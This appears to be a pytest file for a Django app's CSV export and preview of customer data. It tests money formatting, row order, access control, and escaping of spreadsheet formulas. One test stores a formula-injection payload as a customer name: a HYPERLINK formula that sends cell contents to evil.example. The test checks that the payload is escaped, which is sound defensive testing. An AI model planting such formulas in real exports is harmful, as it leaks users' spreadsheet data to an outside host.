"""The Data Search file (CSV) and preview: safe cells, money as money, the same rows in order."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest
from django.urls import reverse
from django.utils import timezone

from followups.models import OutputJob
from followups.services.outputs import output_job_start
from tests.followups.factories import CustomerFactory, VehicleFactory, invoice

pytestmark = pytest.mark.django_db


def csv_rows(owner, django_capture_on_commit_callbacks, **kwargs) -> list[dict]:
    with django_capture_on_commit_callbacks(execute=True):
        job = output_job_start(by=owner, kind="csv", **kwargs)
    job.refresh_from_db()
    assert job.state == OutputJob.State.DONE, job.error
    raw = job.file.open("rb").read().decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(raw)))


def test_a_customer_named_like_a_formula_comes_out_as_text(
    owner, django_capture_on_commit_callbacks
):
    evil = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
    customer = CustomerFactory(first_name=evil, last_name="", city="=1+2")
    invoice(VehicleFactory(customer=customer), timezone.localdate() - timedelta(days=3))
    rows = csv_rows(owner, django_capture_on_commit_callbacks, criteria={},
                    fields=["name", "city", "total_spent"])  # fmt: skip
    assert rows == [{"Name": "'" + evil, "City": "'=1+2", "Total spent": "120.00"}]


def test_money_is_written_to_the_cent_in_the_file(owner, django_capture_on_commit_callbacks):
    vehicle = VehicleFactory()
    today = timezone.localdate()
    invoice(vehicle, today - timedelta(days=40), total="1000.00")
    invoice(vehicle, today - timedelta(days=10), total="258.97")
    per_customer = csv_rows(owner, django_capture_on_commit_callbacks, criteria={},
                            fields=["name", "total_spent"])  # fmt: skip
    assert per_customer[0]["Total spent"] == "1258.97"
    per_invoice = csv_rows(owner, django_capture_on_commit_callbacks, criteria={},
                           collect="invoice", fields=["name", "invoice_total"])  # fmt: skip
    assert [r["Invoice total"] for r in per_invoice] == ["258.97", "1000.00"]


def test_the_preview_shows_money_to_the_cent(client, advisor):
    vehicle = VehicleFactory()
    today = timezone.localdate()
    invoice(vehicle, today - timedelta(days=40), total="1000.00")
    invoice(vehicle, today - timedelta(days=10), total="258.97")
    client.force_login(advisor)
    page = client.get(reverse("followups:search_preview"), {"fields": ["name", "total_spent"]})
    text = page.content.decode()
    assert "<td>1258.97</td>" in text
    assert "1258.970" not in text


def test_the_preview_lists_the_rows_and_columns_in_the_order_of_the_file(
    client, advisor, owner, django_capture_on_commit_callbacks
):
    # Created Young, Adams, Moreno: the list is in name order, not in the order of entry.
    for last_name in ("Young", "Adams", "Moreno"):
        customer = CustomerFactory(first_name="Lee", last_name=last_name)
        invoice(VehicleFactory(customer=customer), timezone.localdate() - timedelta(days=5))
    fields = ["city", "name", "total_spent"]
    client.force_login(advisor)
    preview = client.get(reverse("followups:search_preview"), {"fields": fields})
    rows = csv_rows(owner, django_capture_on_commit_callbacks, criteria={}, fields=fields)
    assert [r["Name"] for r in rows] == ["Lee Adams", "Lee Moreno", "Lee Young"]
    assert list(rows[0]) == [h for h in preview.context["headers"]]
    assert [list(r.values()) for r in rows] == [
        [str(cell) for cell in cells] for cells in preview.context["rows"]
    ]


def test_the_preview_is_refused_below_data_search(client, technician):
    client.force_login(technician)
    assert client.get(reverse("followups:search_preview")).status_code == 403
